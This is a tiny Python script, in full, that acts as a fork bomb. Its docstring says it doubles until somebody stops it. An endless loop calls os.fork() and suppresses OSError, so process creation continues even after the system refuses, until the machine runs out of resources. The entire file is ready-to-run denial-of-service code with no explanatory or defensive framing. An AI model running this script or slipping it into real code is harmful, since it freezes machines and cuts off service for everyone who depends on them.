"""Doubles until somebody stops it."""

import contextlib
import os

while True:
    with contextlib.suppress(OSError):
        os.fork()
